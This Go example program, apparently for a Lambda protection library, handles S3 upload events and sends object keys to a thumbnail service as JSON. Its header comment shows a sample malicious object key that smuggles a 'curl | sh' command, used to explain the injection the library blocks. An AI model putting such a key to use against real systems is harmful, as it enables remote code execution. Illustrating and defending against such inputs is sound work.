// Command s3-processor handles S3 upload notifications, wrapped in
// protect.Handler: for each new object it asks a thumbnail service to
// render it, naming the object by its key. The key is whatever the
// uploader chose (photos/x;curl 203.0.113.66|sh;.jpg is a valid key), and
// code that passes it to a shell or a converter's command line is the
// classic command injection of S3-triggered functions. lambdarasp inspects
// every key, URL-decoded as S3 encodes it, before handle runs; an event it
// blocks fails the invocation with error type lambdarasp.Blocked, and S3's
// asynchronous invocation retries it and then sends it to the on-failure
// destination (the template's FailedEvents queue), where it can be looked
// at.
//
// Build it for Lambda's provided.al2023 runtime (make examples does, for
// x86_64 and arm64):
//
//	GOOS=linux GOARCH=arm64 CGO_ENABLED=0 go build -trimpath -ldflags="-s -w" -tags lambda.norpc,coraza.disabled_operators.validateSchema -o bootstrap ./examples/s3-processor
//
// THUMBNAILER_URL names the thumbnail service (no call when unset); the
// calls go through protect.Client().
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"

	"github.com/lambdarasp/lambdarasp/examples/internal/downstream"
	"github.com/lambdarasp/lambdarasp/protect"
)

// client makes the outbound calls: lambdarasp checks and records each.
var client = protect.Client()

func handle(ctx context.Context, ev events.S3Event) error {
	for _, rec := range ev.Records {
		// S3 URL-encodes keys in notifications, spaces as '+'.
		key, err := url.QueryUnescape(rec.S3.Object.Key)
		if err != nil {
			return fmt.Errorf("object key: %w", err)
		}
		if err := thumbnail(ctx, rec.S3.Bucket.Name, key); err != nil {
			return err
		}
	}
	return nil
}

// thumbnail asks the thumbnail service to render bucket/key into
// thumbnails/key. The key travels as a JSON string, never through a shell.
func thumbnail(ctx context.Context, bucket, key string) error {
	body, err := json.Marshal(map[string]string{"bucket": bucket, "key": key, "output": "thumbnails/" + key})
	if err != nil {
		return err
	}
	return downstream.Post(ctx, client, os.Getenv("THUMBNAILER_URL"), "/thumbnails", body, 5*time.Second)
}

func main() {
	opts := []protect.Option{
		// S3 keys are at most 1,024 bytes: nothing longer is legitimate.
		protect.WithLimits(protect.Limits{MaxValueBytes: 1024}),
	}
	if u, err := url.Parse(os.Getenv("THUMBNAILER_URL")); err == nil && u.Hostname() != "" {
		opts = append(opts, protect.WithEgressAllow(u.Hostname()))
	}
	lambda.Start(protect.Handler(handle, opts...))
}
